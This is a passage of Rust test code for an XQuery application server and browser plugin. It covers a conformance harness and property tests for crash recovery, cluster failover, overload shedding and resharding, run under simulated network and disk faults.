                    content_type: "application/xml".to_string(),
                });
            Ok(())
        }
        "down" => {
            let host = words.next().ok_or("down: missing host")?;
            let seed: u64 = words
                .next()
                .and_then(|w| w.parse().ok())
                .ok_or("down: bad seed")?;
            p.host
                .borrow_mut()
                .net
                .set_fault_plan(host, FaultPlan::always_down(seed));
            Ok(())
        }
        "eval" => match p.eval(&rest_after(1)) {
            Ok(_) => Ok(()),
            Err(e) => err(format!("{e:?}")),
        },
        "click" => {
            let id = words.next().ok_or("click: missing id")?;
            p.click_id(id).map_err(|e| format!("`{line}`: {e:?}"))
        }
        "keyup" => {
            let id = words.next().ok_or("keyup: missing id")?;
            let target = p
                .element_by_id(id)
                .ok_or_else(|| format!("`{line}`: no element #{id}"))?;
            p.keyup(target).map_err(|e| format!("`{line}`: {e:?}"))
        }
        "set" => {
            let id = words.next().ok_or("set: missing id")?.to_string();
            let attr = words.next().ok_or("set: missing attr")?.to_string();
            p.set_attr_by_id(&id, &attr, &rest_after(3))
                .map_err(|e| format!("`{line}`: {e:?}"))
        }
        "advance" => {
            let ms: u64 = words
                .next()
                .and_then(|w| w.parse().ok())
                .ok_or("advance: bad ms")?;
            p.advance_clock(ms);
            Ok(())
        }
        "drain" => match p.run_until_idle() {
            Ok(_) => Ok(()),
            Err(e) => err(format!("{e:?}")),
        },
        other => Err(format!("unknown action `{other}` in `{line}`")),
    }
}

/// Compares (or, under `XQIB_CONFORMANCE_BLESS=1`, records) one
/// expectation file. Returns an error string on mismatch.
fn check_expectation(path: &Path, label: &str, actual: &str) -> Result<(), String> {
    if std::env::var("XQIB_CONFORMANCE_BLESS").is_ok() {
        fs::write(path, format!("{}\n", actual.trim_end()))
            .map_err(|e| format!("bless {label}: {e}"))?;
        return Ok(());
    }
    if !path.exists() {
        return Ok(());
    }
    let expected = fs::read_to_string(path).map_err(|e| format!("read {label}: {e}"))?;
    if expected.trim_end() != actual.trim_end() {
        return Err(format!(
            "{label} mismatch\n--- expected ---\n{}\n--- actual ---\n{}",
            expected.trim_end(),
            actual.trim_end()
        ));
    }
    Ok(())
}

fn run_case(dir: &Path) -> Result<(), String> {
    let page = fs::read_to_string(dir.join("page.xml")).map_err(|e| format!("page.xml: {e}"))?;
    let actions =
        fs::read_to_string(dir.join("actions.txt")).map_err(|e| format!("actions.txt: {e}"))?;
    let has_dom = dir.join("expect.dom").exists();
    let has_events = dir.join("expect.events").exists();
    if !has_dom && !has_events && std::env::var("XQIB_CONFORMANCE_BLESS").is_err() {
        return Err("no expect.dom or expect.events — nothing to check".to_string());
    }

    let mut p = Plugin::new(PluginConfig::default());
    p.load_page(&page)
        .map_err(|e| format!("load_page: {e:?}"))?;
    for line in actions.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        apply_action(&mut p, line)?;
    }

    check_expectation(&dir.join("expect.dom"), "expect.dom", &p.serialize_page())?;
    check_expectation(
        &dir.join("expect.events"),
        "expect.events",
        &p.alerts().join("\n"),
    )?;
    Ok(())
}

#[test]
fn conformance_suite() {
    let mut dirs: Vec<_> = fs::read_dir(cases_dir())
        .expect("tests/conformance missing")
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    assert!(
        dirs.len() >= 3,
        "expected at least 3 conformance cases, found {}",
        dirs.len()
    );
    let mut failures = Vec::new();
    for dir in &dirs {
        let name = dir.file_name().unwrap().to_string_lossy().to_string();
        if let Err(e) = run_case(dir) {
            failures.push(format!("[{name}] {e}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} conformance case(s) failed:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}
