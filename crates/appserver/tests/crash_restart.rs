//! Crash-restart property tests: random operation sequences × random crash
//! points × random storage fault plans. The contract (prefix durability):
//!
//! 1. recovery never loses an acknowledged operation — the recovered
//!    committed sequence is ≥ the committed sequence at crash time;
//! 2. the recovered store serializes *exactly* as the live store did right
//!    after the operation the recovered sequence names — never a torn or
//!    merged state;
//! 3. recovery is idempotent — recovering the same image again (even after
//!    another crash) yields the same sequence and the same serialization.
//!
//! Deterministic CI matrix hook: `XQIB_STORAGE_SEED` is mixed into every
//! generated seed, so each matrix entry explores a different region of the
//! op-sequence × crash-point × fault space while any single failure stays
//! reproducible.

use proptest::prelude::*;
use xqib_appserver::xmldb::{DurabilityConfig, XmlDb};
use xqib_storage::{StorageFaultPlan, VirtualDisk};

fn env_seed() -> u64 {
    std::env::var("XQIB_STORAGE_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// splitmix64, same idiom as the engine's crash-point suite.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// One journaled operation. Every variant appends exactly one WAL record
/// plus one trailing digest frame, and always succeeds against the URIs
/// the driver has already loaded — so WAL sequences 2k-1 and 2k both name
/// the state right after `ops[k-1]` (the digest frame never mutates
/// content).
#[derive(Debug, Clone)]
enum Op {
    Load { uri: String, xml: String },
    Update { query: String },
}

/// A random plan of `len` operations over up to 3 document URIs. The first
/// operation is always a load, and updates only target loaded URIs. All
/// update targets are expressions that cannot come back empty (the root
/// element), so no operation degenerates into an empty — unjournaled —
/// pending update list.
fn gen_ops(rng: &mut Rng, len: usize) -> Vec<Op> {
    let mut ops = Vec::with_capacity(len);
    let mut loaded: Vec<String> = Vec::new();
    for k in 0..len {
        let load_new = loaded.is_empty() || (loaded.len() < 3 && rng.below(4) == 0);
        if load_new || rng.below(5) == 0 {
            let uri = if load_new {
                format!("u{}.xml", loaded.len())
            } else {
                loaded[rng.below(loaded.len() as u64) as usize].clone()
            };
            let xml = format!("<r{k}><v>t{k}</v></r{k}>");
            if !loaded.contains(&uri) {
                loaded.push(uri.clone());
            }
            ops.push(Op::Load { uri, xml });
            continue;
        }
        let uri = &loaded[rng.below(loaded.len() as u64) as usize];
        let root = format!("(doc('{uri}')/*)[1]");
        let query = match rng.below(4) {
            0 => format!("insert node <e{k}>x{k}</e{k}> into {root}"),
            1 => format!("rename node {root} as 'n{k}'"),
            2 => format!("replace value of node {root} with 'w{k}'"),
            // attribute names carry the op index, so they never collide
            _ => format!("insert node attribute a{k} {{'v{k}'}} into {root}"),
        };
        ops.push(Op::Update { query });
    }
    ops
}

fn apply_op(db: &mut XmlDb, op: &Op) {
    match op {
        Op::Load { uri, xml } => {
            db.load(uri, xml).expect("generated load is valid");
        }
        Op::Update { query } => {
            db.query(query).expect("generated update is valid");
        }
    }
}

proptest! {
    /// The full cross product: run a random prefix of a random op plan over
    /// a faulty disk, pull the plug, recover, and check the contract.
    #[test]
    fn recovery_restores_exactly_the_last_committed_prefix(
        seed in 0u64..1_000_000,
        len in 1usize..9,
        crash_after in 0usize..9,
        group_commit in 1u64..4,
        threshold_sel in 0usize..3,
        fault_sel in 0usize..4,
    ) {
        let mixed = seed ^ env_seed();
        let mut rng = Rng(mixed);
        let ops = gen_ops(&mut rng, len);
        let crash_after = crash_after.min(ops.len());

        let plan = match fault_sel {
            0 => StorageFaultPlan::seeded(mixed),
            1 => StorageFaultPlan::seeded(mixed).with_sync_fail_permille(250),
            2 => StorageFaultPlan::seeded(mixed).with_corrupt_permille(300),
            _ => StorageFaultPlan::seeded(mixed)
                .with_sync_fail_permille(150)
                .with_corrupt_permille(150),
        };
        let cfg = DurabilityConfig {
            group_commit,
            // 0 = never checkpoint; tiny thresholds force several per run
            checkpoint_threshold: [0, 96, 2048][threshold_sel],
        };

        let disk = VirtualDisk::with_plan(plan);
        let mut db = XmlDb::durable(disk.clone(), cfg);
        // expected[s] = serialization right after WAL sequence s
        let mut expected = vec![db.dump()];
        for op in &ops[..crash_after] {
            apply_op(&mut db, op);
            expected.push(db.dump());
        }
        let committed_at_crash = db.committed_seq();
        drop(db);
        disk.crash();

        let recovered = XmlDb::recover(disk.clone(), cfg).unwrap();
        let seq = recovered.committed_seq() as usize;
        prop_assert!(
            seq >= committed_at_crash as usize,
            "lost acknowledged ops: committed {committed_at_crash}, recovered {seq}"
        );
        // each op journals a record frame + a digest frame, so sequence s
        // names the state after op ceil(s/2); a torn digest frame (odd s)
        // still lands on a whole-op state
        prop_assert!(seq <= 2 * crash_after, "recovered past the last append");
        let op_ix = seq.div_ceil(2);
        prop_assert_eq!(
            &recovered.dump(), &expected[op_ix],
            "recovered state is not the state after sequence {}", seq
        );
        let stats = recovered.durability_stats();
        prop_assert_eq!(stats.recoveries, 1);
        drop(recovered);

        // double recovery (after yet another crash of the now-clean image)
        // is idempotent
        disk.crash();
        let again = XmlDb::recover(disk, cfg).unwrap();
        prop_assert_eq!(again.committed_seq() as usize, seq);
        prop_assert_eq!(&again.dump(), &expected[op_ix]);
    }

    /// Fault-free runs lose nothing: with every op group-committed and no
    /// injected faults, recovery lands on the very last operation.
    #[test]
    fn clean_disks_recover_everything(seed in 0u64..1_000_000, len in 1usize..7) {
        let mixed = seed ^ env_seed();
        let ops = gen_ops(&mut Rng(mixed), len);
        let disk = VirtualDisk::new();
        let cfg = DurabilityConfig { group_commit: 1, checkpoint_threshold: 512 };
        let mut db = XmlDb::durable(disk.clone(), cfg);
        for op in &ops {
            apply_op(&mut db, op);
        }
        let want = db.dump();
        // record frame + digest frame per op
        prop_assert_eq!(db.committed_seq(), 2 * ops.len() as u64);
        drop(db);
        disk.crash();
        let recovered = XmlDb::recover(disk, cfg).unwrap();
        prop_assert_eq!(recovered.committed_seq(), 2 * ops.len() as u64);
        prop_assert_eq!(recovered.dump(), want);
    }
}
