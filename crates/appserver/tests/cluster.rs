//! Cluster chaos property tests: random topologies × random partitions ×
//! random leader-crash schedules × random link faults, all on virtual
//! time. The contracts:
//!
//! 1. **No acked update is ever lost** — every update the cluster answered
//!    with 200 (the replication ack rule held) is present in its owning
//!    shard's state at the end of the run, *and* still present after every
//!    remaining leader is crashed and failed over once more;
//! 2. **No shard serves a document it doesn't own** — direct requests to
//!    the wrong shard are refused with 421, and the routed path never
//!    produces a misroute;
//! 3. **Determinism** — identical seeds give bit-identical reports.
//!
//! Deterministic CI matrix hook: `XQIB_CLUSTER_SEED` is mixed into every
//! generated seed, so each matrix entry explores a different region of the
//! topology × partition × crash space while any failure stays
//! reproducible.

use proptest::prelude::*;
use xqib_appserver::simulate::{run_cluster_sim, ClusterSimConfig};
use xqib_appserver::{ClusterOutcome, Submitted};
use xqib_browser::FaultPlan;
use xqib_storage::StorageFaultPlan;

fn env_seed() -> u64 {
    std::env::var("XQIB_CLUSTER_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// Scrub-chaos matrix axis: like `XQIB_CLUSTER_SEED`, but reserved for the
/// latent-decay scenarios so the two matrices explore independent regions.
fn scrub_env_seed() -> u64 {
    std::env::var("XQIB_SCRUB_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

fn mix(seed: u64, salt: u64) -> u64 {
    let mut z = seed ^ salt.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^= z >> 31;
    z
}

/// A random chaos scenario derived from one seed: topology, faults,
/// partitions and crash times all follow from it.
fn scenario(seed: u64) -> ClusterSimConfig {
    let seed = mix(seed, env_seed());
    let mut cfg = ClusterSimConfig::steady(seed, 1_200 + mix(seed, 1) % 800);
    cfg.cluster.shards = 1 + (mix(seed, 2) % 2) as usize;
    cfg.cluster.followers = (mix(seed, 3) % 3) as usize;
    cfg.cluster.ack_replicas = if cfg.cluster.followers == 0 {
        0
    } else {
        1 + (mix(seed, 4) % cfg.cluster.followers as u64) as usize
    };
    cfg.cluster.ship_truncate_permille = (mix(seed, 5) % 200) as u16;
    if mix(seed, 6).is_multiple_of(2) {
        cfg.cluster.repl_fault = Some(
            FaultPlan::seeded(0)
                .with_reply_lost_permille((mix(seed, 7) % 150) as u16)
                .with_truncate_permille((mix(seed, 8) % 100) as u16),
        );
    }
    // one leader crash per shard, somewhere mid-run
    for s in 0..cfg.cluster.shards {
        if !mix(seed, 9 + s as u64).is_multiple_of(3) {
            let at = 200 + mix(seed, 20 + s as u64) % (cfg.duration_ms - 300);
            cfg.leader_crashes.push((at, s));
        }
    }
    // a transient partition on one follower link per shard
    for s in 0..cfg.cluster.shards {
        if cfg.cluster.followers > 0 && mix(seed, 30 + s as u64).is_multiple_of(2) {
            let slot = 1 + (mix(seed, 40 + s as u64) % cfg.cluster.followers as u64) as usize;
            let from = mix(seed, 50 + s as u64) % cfg.duration_ms;
            let to = (from + 200 + mix(seed, 60 + s as u64) % 600).min(cfg.duration_ms);
            cfg.partitions.push((s, slot, from, to));
        }
    }
    cfg.update_rps = 20 + mix(seed, 70) % 40;
    cfg.read_rps = 20 + mix(seed, 71) % 60;
    cfg
}

/// The full integrity composition: the base chaos scenario (net faults,
/// partitions, leader crashes) plus silent bit rot on every seat disk.
fn scrub_scenario(seed: u64) -> ClusterSimConfig {
    let seed = mix(seed, scrub_env_seed());
    let mut cfg = scenario(seed);
    // silent rot on a replication-factor-1 shard is unrecoverable by
    // construction (no surviving copy to repair from once the leader
    // crashes) — the integrity contract is about the replicated tier, so
    // the decay scenarios always carry at least one follower
    if cfg.cluster.followers == 0 {
        cfg.cluster.followers = 1;
        cfg.cluster.ack_replicas = 1;
    }
    cfg.cluster.disk_fault = Some(
        StorageFaultPlan::seeded(mix(seed, 90))
            .with_decay_permille(1 + (mix(seed, 91) % 3) as u16)
            .with_decay_period_ms(40 + mix(seed, 92) % 120),
    );
    cfg
}

proptest! {
    /// The headline invariant, end to end: run the chaos scenario, then
    /// verify the acked-update ledger against live state; then crash every
    /// surviving leader once more, let failover settle, and verify again.
    #[test]
    fn no_acked_update_is_ever_lost_across_failovers(case_seed in 0u64..1u64 << 48) {
        let cfg = scenario(case_seed);
        let (report, mut cluster) = run_cluster_sim(&cfg);
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "acked updates missing after the run: {:?}",
            cfg
        );
        prop_assert_eq!(report.misrouted, 0);
        // torment round: kill every leader again, failover, re-verify
        let mut now = cfg.duration_ms + 10_000;
        for s in 0..cluster.shard_count() {
            if cluster.has_leader(s) {
                cluster.crash_leader(s, now);
            }
        }
        let (settled, _) = cluster.quiesce(now);
        now = settled;
        for s in 0..cluster.shard_count() {
            prop_assert!(
                cluster.has_leader(s),
                "shard {} failed to re-elect by {}ms ({:?})", s, now, cfg
            );
        }
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "acked updates missing after the extra failover round: {:?}",
            cfg
        );
    }

    /// Ownership enforcement: every shard refuses documents it does not
    /// own with 421, for reads and updates alike.
    #[test]
    fn no_shard_serves_a_document_it_does_not_own(case_seed in 0u64..1u64 << 48) {
        let mut cfg = scenario(case_seed);
        cfg.cluster.shards = 2 + (mix(case_seed, 80) % 3) as usize;
        cfg.duration_ms = 200; // topology is what matters here
        cfg.leader_crashes.clear();
        let (_, mut cluster) = run_cluster_sim(&cfg);
        for i in 0..cfg.docs {
            let uri = format!("d{i}.xml");
            let owner = cluster.owner(&uri);
            let wrong = (owner + 1) % cluster.shard_count();
            for url in [
                format!("/doc?uri={uri}"),
                format!("/update?xq=insert node <evil/> into doc(\"{uri}\")/*"),
            ] {
                match cluster.serve_at(wrong, &url, 1_000_000) {
                    Submitted::Done(done) => {
                        prop_assert_eq!(done.response.status, 421, "{}", url);
                        prop_assert_eq!(done.outcome, ClusterOutcome::Misrouted);
                    }
                    Submitted::Pending(_) => prop_assert!(false, "misroute cannot pend"),
                }
            }
            // and the effect really is absent: the wrongly-targeted update
            // never reached any shard's state
            prop_assert!(!cluster.contains(&uri, "evil"));
        }
    }

    /// Bit-identical determinism: the whole report — counters, ledger,
    /// latency percentiles, replication stats — is a pure function of the
    /// config.
    #[test]
    fn identical_seeds_give_bit_identical_reports(case_seed in 0u64..1u64 << 48) {
        let cfg = scenario(case_seed);
        let (a, _) = run_cluster_sim(&cfg);
        let (b, _) = run_cluster_sim(&cfg);
        prop_assert_eq!(a, b);
    }
}

proptest! {
    /// Tentpole chaos composition: latent decay on every disk, on top of
    /// link faults, partitions and leader crashes. No acked update may be
    /// lost — not at the end of the run and not after one more forced
    /// failover per shard — and every detected mid-prefix corruption must
    /// be answered with a repair (follower re-checkpoint / resync) or an
    /// escalation (leader demotion), never merely logged.
    #[test]
    fn latent_decay_is_scrubbed_without_losing_acked_updates(case_seed in 0u64..1u64 << 48) {
        let cfg = scrub_scenario(case_seed);
        let (report, mut cluster) = run_cluster_sim(&cfg);
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "acked updates missing under decay: {:?}",
            cfg
        );
        prop_assert_eq!(report.misrouted, 0);
        // the decay schedule really ticked and the scrubber really looked
        prop_assert!(report.integrity.decay_sweeps > 0, "decay never ran");
        prop_assert!(report.integrity.scrub_cycles > 0, "scrubber never ran");
        // with followers present, detected WAL rot always has a consequence:
        // follower rot starts a repair, leader rot forces a demotion
        if cfg.cluster.followers > 0 && report.integrity.scrub_wal_corruptions > 0 {
            prop_assert!(
                report.integrity.repairs_started + report.integrity.leader_demotions > 0,
                "mid-prefix rot detected but never repaired or escalated: {:?}",
                report.integrity
            );
        }
        // torment round: promotion under decay must still pick verified
        // candidates and keep the ledger intact
        let mut now = cfg.duration_ms + 10_000;
        for s in 0..cluster.shard_count() {
            if cluster.has_leader(s) {
                cluster.crash_leader(s, now);
            }
        }
        let (settled, _) = cluster.quiesce(now);
        now = settled;
        for s in 0..cluster.shard_count() {
            prop_assert!(
                cluster.has_leader(s),
                "shard {} failed to re-elect by {}ms under decay ({:?})", s, now, cfg
            );
        }
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "decay + extra failover round lost acked updates: {:?}",
            cfg
        );
    }

    /// Determinism with the whole integrity machinery on: the report —
    /// including every scrub/repair/decay counter — is a pure function of
    /// the config, bit for bit.
    #[test]
    fn scrub_reports_are_bit_identical_per_seed(case_seed in 0u64..1u64 << 48) {
        let cfg = scrub_scenario(case_seed);
        let (a, _) = run_cluster_sim(&cfg);
        let (b, _) = run_cluster_sim(&cfg);
        prop_assert_eq!(a, b);
    }
}

/// Satellite regression: a follower partitioned long enough to fall past
/// the leader's WAL-truncation horizon resyncs via the checkpoint-snapshot
/// path mid-run; the leader then crashes twice, so the second promotion
/// can land on the very seat that was snapshot-resynced. No acked update
/// may be lost at any step.
#[test]
fn double_failover_after_a_snapshot_resync_past_the_truncation_horizon() {
    let mut cfg = ClusterSimConfig::steady(mix(171, env_seed()), 2_400);
    cfg.cluster.shards = 1;
    cfg.cluster.followers = 2;
    cfg.cluster.ack_replicas = 1;
    // aggressive checkpointing keeps the durable logs short, so the healed
    // straggler finds a gap and must take the snapshot path
    cfg.cluster.durability.checkpoint_threshold = 96;
    cfg.cluster.follower_durability.checkpoint_threshold = 96;
    cfg.partitions = vec![(0, 2, 200, 1_200)];
    cfg.leader_crashes = vec![(1_600, 0)];
    cfg.update_rps = 60;
    let (report, mut cluster) = run_cluster_sim(&cfg);
    assert!(report.acked_updates > 0);
    assert!(
        report.stats.snapshots_shipped > 0,
        "the healed straggler must resync via snapshot: {:?}",
        report.stats
    );
    assert_eq!(report.stats.failovers, 1);
    assert_eq!(report.missing_acked_updates(&cluster), Vec::<String>::new());
    // second failover: the promoted leader (possibly the resynced seat)
    // dies too, past the first leader's truncation horizon
    cluster.crash_leader(0, 60_000);
    let (_, _) = cluster.quiesce(60_000);
    assert!(cluster.has_leader(0));
    assert_eq!(cluster.stats().failovers, 2);
    assert_eq!(
        report.missing_acked_updates(&cluster),
        Vec::<String>::new(),
        "the second failover must keep every update acked before the first"
    );
}

/// Scripted (non-random) regression: a double failover with a partition
/// that forces the second promotion to wait, exercising probe retries and
/// the quorum-intersection argument.
#[test]
fn scripted_double_failover_with_partition_keeps_acked_updates() {
    let mut cfg = ClusterSimConfig::steady(mix(77, env_seed()), 2_000);
    cfg.cluster.shards = 1;
    cfg.cluster.followers = 2;
    cfg.cluster.ack_replicas = 1;
    cfg.leader_crashes = vec![(800, 0)];
    cfg.partitions = vec![(0, 2, 700, 1_300)];
    let (report, mut cluster) = run_cluster_sim(&cfg);
    assert!(report.acked_updates > 0);
    assert_eq!(report.stats.failovers, 1);
    assert_eq!(report.missing_acked_updates(&cluster), Vec::<String>::new());
    // second failover, after the partition healed
    cluster.crash_leader(0, 50_000);
    let (_, _) = cluster.quiesce(50_000);
    assert!(cluster.has_leader(0));
    assert_eq!(
        report.missing_acked_updates(&cluster),
        Vec::<String>::new(),
        "second failover must keep every acked update"
    );
}
