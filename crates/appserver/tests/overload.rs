//! Overload-robustness property sweep: arrival schedules × network fault
//! plans × storage fault plans × seeds, run through the deterministic
//! multi-client simulator. The contract:
//!
//! 1. **conservation** — every generated arrival is accounted for exactly
//!    once: lost on the wire, answered by the fault layer, or answered by
//!    the server (fresh, degraded, shed, or deadline-failed); every
//!    admitted request completes exactly once;
//! 2. **honest shedding** — shed requests get `503` with a `Retry-After`
//!    header and are never partially executed: the number of `sim-update`
//!    marker nodes in the store equals the number of `200` update
//!    responses, and after a crash the recovered count never exceeds it;
//! 3. **well-formed degradation** — degraded responses carry the
//!    `X-XQIB-Degraded` marker and a whole, parseable document snapshot;
//! 4. **no gratuitous drops** — with faults off and load under capacity,
//!    nothing is shed or degraded;
//! 5. **determinism** — identical seeds reproduce identical reports,
//!    metrics included.
//!
//! CI matrix hook: `XQIB_SIM_SEED` is mixed into every generated seed, so
//! each matrix entry explores a different region of the schedule × fault
//! space while any single failure stays reproducible.

use proptest::prelude::*;
use xqib_appserver::governor::{Admission, Class, GovernedServer, GovernorConfig, Outcome};
use xqib_appserver::simulate::{run_sim_with_server, ArrivalPattern, SimConfig, SimReport};
use xqib_appserver::{generate_corpus, AppServer, CorpusSpec, DurabilityConfig};
use xqib_browser::net::FaultPlan;
use xqib_storage::StorageFaultPlan;

fn env_seed() -> u64 {
    std::env::var("XQIB_SIM_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// Arrivals must balance against outcomes, per class and in total.
fn assert_conservation(report: &SimReport) {
    for class in Class::ALL {
        let c = report.class(class);
        let delivered = c.ok + c.errors + c.degraded + c.shed + c.deadline_exceeded;
        assert_eq!(
            c.issued,
            delivered + c.lost + c.net_errors,
            "class {} leaks requests: {c:?}",
            class.name()
        );
        assert_eq!(
            c.latencies.len() as u64,
            delivered,
            "one latency sample per delivered response ({})",
            class.name()
        );
    }
    // the governor's own books agree with the client-side tally
    assert_eq!(report.metrics.shed, report.shed());
    assert_eq!(
        report.metrics.degraded,
        report.per_class.iter().map(|c| c.degraded).sum::<u64>()
    );
    assert_eq!(
        report.metrics.deadline_exceeded,
        report
            .per_class
            .iter()
            .map(|c| c.deadline_exceeded)
            .sum::<u64>()
    );
}

/// Counts the `sim-update` marker nodes a server's corpus carries.
fn marker_count(server: &mut AppServer) -> u64 {
    let resp = server.handle("/query?xq=count(doc('corpus.xml')/*/sim-update)");
    assert_eq!(resp.status, 200, "{}", resp.body);
    resp.body.trim().parse().expect("count is a number")
}

proptest! {
    /// The full cross product: schedule × network faults × storage faults
    /// × governed/ungoverned, checked against invariants 1, 2 and 5.
    #[test]
    fn sim_invariants_hold_across_the_fault_space(
        seed in 0u64..1_000_000,
        pattern_sel in 0usize..3,
        net_sel in 0usize..3,
        durable in prop_oneof![Just(false), Just(true)],
        governed in prop_oneof![Just(false), Just(true)],
    ) {
        let mixed = seed ^ env_seed();
        let mut cfg = SimConfig::steady(mixed, 20, 2_000);
        cfg.clients[0].pattern = match pattern_sel {
            0 => ArrivalPattern::Steady { rps: 20 },
            1 => ArrivalPattern::Burst {
                base_rps: 10,
                burst_rps: 150,
                from_ms: 500,
                to_ms: 1_200,
            },
            _ => ArrivalPattern::Ramp { from_rps: 5, to_rps: 120 },
        };
        cfg.net_fault = match net_sel {
            0 => None,
            1 => Some(FaultPlan::seeded(mixed).with_timeout_permille(80).with_jitter_ms(15)),
            _ => Some(
                FaultPlan::seeded(mixed)
                    .with_timeout_permille(50)
                    .with_error_permille(50)
                    .with_truncate_permille(50),
            ),
        };
        if durable {
            cfg.disk_fault = Some(StorageFaultPlan::seeded(mixed).with_sync_fail_permille(100));
        }
        if !governed {
            cfg.governor = None;
        }

        let (report, mut g) = run_sim_with_server(&cfg).unwrap();
        assert_conservation(&report);

        // invariant 2: acknowledged updates — and only those — left effects
        let acked = report.class(Class::Update).ok;
        prop_assert_eq!(marker_count(&mut g.server), acked);

        if durable {
            // pull the plug and recover: prefix durability means the
            // journal can trail the in-memory state, but it can never
            // contain effects of shed or deadline-killed updates
            let disk = g.server.db.disk().expect("durable server").clone_image();
            let mut recovered =
                AppServer::recover(disk, DurabilityConfig::default()).expect("recovery");
            prop_assert!(marker_count(&mut recovered) <= acked);
        }

        // invariant 5: the same config replays to the same report
        let (again, _) = run_sim_with_server(&cfg).unwrap();
        prop_assert_eq!(report, again);
    }
}

proptest! {
    /// Invariant 4: a fault-free steady trickle under capacity is never
    /// shed, degraded, or deadline-failed, governed or not.
    #[test]
    fn under_capacity_nothing_is_dropped(
        seed in 0u64..1_000_000,
        rps in 1u64..12,
        governed in prop_oneof![Just(false), Just(true)],
    ) {
        let mut cfg = SimConfig::steady(seed ^ env_seed(), rps, 3_000);
        if !governed {
            cfg.governor = None;
        }
        let (report, _) = run_sim_with_server(&cfg).unwrap();
        assert_conservation(&report);
        prop_assert_eq!(report.shed(), 0);
        prop_assert_eq!(report.metrics.degraded, 0);
        prop_assert_eq!(report.metrics.deadline_exceeded, 0);
        prop_assert_eq!(report.goodput(), report.issued());
    }
}

/// Invariants 2 and 3 at the single-response level: flood the governor at
/// t=0 and inspect every completion.
#[test]
fn flood_responses_are_honest() {
    let corpus = generate_corpus(&CorpusSpec::default());
    let server = AppServer::new(&corpus).expect("corpus load");
    let snapshot = server.db.serialize("corpus.xml").expect("snapshot");
    let mut g = GovernedServer::new(server, GovernorConfig::default());

    let mut completions = Vec::new();
    for i in 0..100 {
        let url = format!("/page?article=j0-v0-i0-a{}", i % 4);
        match g.submit(&url, 0) {
            Admission::Rejected(c) => completions.push(c),
            Admission::Queued(_) => {}
        }
    }
    completions.extend(g.drain());
    assert_eq!(
        completions.len(),
        100,
        "every request answered exactly once"
    );

    let mut shed = 0;
    let mut degraded = 0;
    for c in &completions {
        match c.outcome {
            Outcome::ShedQueueFull | Outcome::ShedQueueDelay => {
                shed += 1;
                assert_eq!(c.response.status, 503);
                assert!(
                    c.response.header("Retry-After").is_some(),
                    "shed responses advertise when to come back"
                );
            }
            Outcome::Degraded => {
                degraded += 1;
                assert_eq!(c.response.status, 200);
                assert_eq!(
                    c.response.header("X-XQIB-Degraded"),
                    Some("whole-document-snapshot")
                );
                // a whole, untorn document — byte-identical to the cache
                assert_eq!(c.response.body, snapshot);
            }
            Outcome::Served => assert_eq!(c.response.status, 200),
            Outcome::DeadlineExceeded => {
                panic!("render deadline misses degrade instead of failing")
            }
        }
    }
    assert!(shed > 0, "a 100-deep flood must overflow the 64-slot queue");
    assert!(degraded > 0, "late renders must fall back to the snapshot");

    // the /metrics route serves the overload counters the flood produced
    g.sync_metrics();
    let xml = g.server.handle("/metrics").body;
    assert!(xml.contains(&format!("<shed>{shed}</shed>")), "{xml}");
    assert!(
        xml.contains(&format!("<degraded>{degraded}</degraded>")),
        "{xml}"
    );
}
