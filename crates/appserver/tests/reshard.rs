//! Online membership & live resharding chaos suite: random topology
//! schedules (grow, decommission, rebalance) × link faults × partitions ×
//! leader crashes, with *stale* client routing so every cutover fence is
//! actually hit. The contracts:
//!
//! 1. **Zero acked-update loss** — every update answered 200 is present in
//!    its owning shard's state after the run settles, and still after one
//!    more forced failover per surviving shard;
//! 2. **Epoch-fenced single ownership** — within one topology epoch, no
//!    two shards ever both accept updates for the same document, across
//!    any interleaving of migration, crash, partition and re-route;
//! 3. **Determinism** — identical seeds give bit-identical reports;
//! 4. **Ring quality** — the consistent-hash ring balances load within a
//!    bounded factor and adding one shard moves only ~1/N of the keys.
//!
//! Deterministic CI matrix hook: `XQIB_RESHARD_SEED` is mixed into every
//! generated seed so each matrix entry explores a different region of the
//! topology × fault space while any failure stays reproducible.

use proptest::prelude::*;
use xqib_appserver::simulate::{run_cluster_sim, ClusterSimConfig};
use xqib_appserver::{Router, TopologyChange};
use xqib_browser::FaultPlan;

fn env_seed() -> u64 {
    std::env::var("XQIB_RESHARD_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

fn mix(seed: u64, salt: u64) -> u64 {
    let mut z = seed ^ salt.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^= z >> 31;
    z
}

/// A random resharding chaos scenario: a topology-change schedule layered
/// on top of net faults, partitions and leader crashes, with clients that
/// cache routes long enough to hit the fences.
fn reshard_scenario(seed: u64) -> ClusterSimConfig {
    let seed = mix(seed, env_seed());
    let mut cfg = ClusterSimConfig::steady(seed, 1_500 + mix(seed, 1) % 800);
